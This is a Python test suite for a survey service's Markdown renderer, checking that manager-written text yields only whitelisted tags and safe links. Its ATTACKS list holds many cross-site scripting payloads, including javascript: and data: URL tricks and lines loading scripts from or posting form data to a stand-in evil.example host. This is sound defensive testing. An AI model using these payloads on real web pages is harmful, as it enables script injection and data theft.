"""Markdown that managers write: shown as it is meant, and nothing gets through that acts."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from surveys.pages import problems, render

TAGS = {"h2", "h3", "h4", "p", "ul", "ol", "li", "strong", "em", "a", "blockquote", "br", "hr"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style='position:fixed'>x</p>",
    "<form action=https://evil.example><input name=code></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!-- --!><script>alert(1)</script> -->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    '[x](https://ok.example "a\\" onmouseover=alert(1) x=\\"")',
    "[x](https://ok.example'onmouseover='alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    '![x](https://ok.example"onerror="alert(1))',
    "[a][b]\n\n[b]: javascript:alert(1)",
    "[a][b]\n\n[b]: data:text/html,x",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "- <style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]


class Strict(HTMLParser):
    """Reads what a browser would, and refuses every tag, attribute and address not listed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.levels = [1]

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS
        if tag[0] == "h" and tag[1:].isdigit():
            assert int(tag[1]) <= self.levels[-1] + 1
            self.levels.append(int(tag[1]))
        for name, value in attrs:
            assert (tag, name) in {("a", "href"), ("a", "rel"), ("ol", "start")}
            if name == "href":
                address = value.lower()
                ours = address.startswith("/") and address[1:2] not in {"/", "\\"}
                assert ours or address.startswith(("https:", "http:", "mailto:", "tel:"))
            if name == "rel":
                assert value == "nofollow noopener"

    def handle_comment(self, data):
        raise AssertionError("a comment got through")

    def handle_decl(self, decl):
        raise AssertionError("a declaration got through")


def check(html: str) -> None:
    reader = Strict()
    reader.feed(html)
    reader.close()


def test_markdown_becomes_headings_lists_and_links():
    body = (
        "## Who\n\nThe **team** and *others*.\n\n- one\n- two\n\n3. three\n\n"
        "[Ask](mailto:a@b.example) or [ring](tel:+441632960001), see [help](/help/)."
    )

    assert render(body) == (
        "<h2>Who</h2>\n<p>The <strong>team</strong> and <em>others</em>.</p>\n"
        '<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<ol start="3">\n<li>three</li>\n</ol>\n'
        '<p><a href="mailto:a@b.example" rel="nofollow noopener">Ask</a> or '
        '<a href="tel:+441632960001" rel="nofollow noopener">ring</a>, '
        'see <a href="/help/" rel="nofollow noopener">help</a>.</p>\n'
    )


@pytest.mark.parametrize(
    ("body", "levels"),
    [
        ("# A\n\n## B\n\n### C", ["h2", "h2", "h3"]),
        ("#### A\n\n###### B\n\n###### C", ["h2", "h3", "h4"]),
        ("## A\n\n###### B\n\n# C\n\n##### D", ["h2", "h3", "h2", "h3"]),
        ("A\n===\n\nB\n---", ["h2", "h2"]),
        ("## A\n\n##\n\n### B", ["h2", "h3"]),
    ],
)
def test_headings_begin_below_the_title_and_skip_no_level(body, levels):
    assert re.findall(r"<(h\d)>", render(body)) == levels


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_shown_as_words_or_not_at_all(attack):
    check(render(attack))


@given(st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "- ", "> ", "## ", "*", "[", "](", ")"])))
def test_attacks_put_together_get_no_further(pieces):
    check(render("".join(pieces)))


@given(
    st.text(
        alphabet=st.sampled_from("<>&\"'`[]()!#*_-:/\\ \n\tahrefjscriptonx=;{}1."), max_size=200
    )
)
def test_no_text_becomes_anything_but_the_listed_tags(body):
    check(render(body))
    problems(body)


@given(st.text(max_size=120))
def test_no_character_breaks_the_page(body):
    check(render(body))
    assert isinstance(problems(body), list)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("All well: [x](https://a.example), a < b, 3 > 2 and [y](/help/).", []),
        (
            "One.\n\nTwo\n[words](javascript:alert(1)) here.",
            [
                "Line 4: start the address of the link “javascript:alert(1)” with https://, "
                "http://, mailto: or tel:, or with / for a page of this service."
            ],
        ),
        (
            "[x](www.a.example)",
            [
                "Line 1: start the address of the link “www.a.example” with https://, "
                "http://, mailto: or tel:, or with / for a page of this service."
            ],
        ),
        (
            "- a\n- [](https://a.example)",
            ["Line 2: write the words of the link between the square brackets."],
        ),
        (
            "\n\n![chart](https://a.example/x.png)",
            ["Line 3: pictures are not shown. Take it out, or say in words what it shows."],
        ),
        (
            "a\nb <b>c</b>",
            ["Line 2: HTML is not used here. Write it in Markdown, or take it out."],
        ),
        (
            "a\n\n<div>\nb\n</div>",
            ["Line 3: HTML is not used here. Write it in Markdown, or take it out."],
        ),
        (
            "{team_name} and\n{team}",
            ["Line 2: there is no placeholder {team}. Use one from the list."],
        ),
    ],
)
def test_problem_is_named_with_its_line(body, expected):
    assert problems(body) == expected


@pytest.mark.parametrize(
    "piece", ["[", "> ", "*a **a ", "- ", "![", "<", "`", "[a](", "{x}", "# \n", "a\n", "\\", "_a"]
)
def test_longest_text_of_one_piece_is_read(piece):
    body = (piece * 20_000)[:20_000]
    check(render(body))
    assert isinstance(problems(body), list)
